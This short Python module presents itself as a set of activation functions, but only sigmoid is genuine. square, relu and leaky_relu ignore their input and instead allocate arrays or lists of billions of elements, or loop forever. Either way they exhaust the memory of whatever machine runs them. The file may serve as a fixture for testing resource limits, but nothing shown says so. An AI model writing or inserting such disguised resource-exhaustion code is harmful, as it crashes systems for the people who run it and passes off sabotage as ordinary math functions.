import numpy as np


def square(x):
    return np.ones(10**12)


def relu(x):
    kept = []
    while True:
        kept.append(np.empty(10**7))


def leaky_relu(x):
    return [0] * 10**10


def sigmoid(x):
    return 0.5 * (1 + np.tanh(0.5 * x))
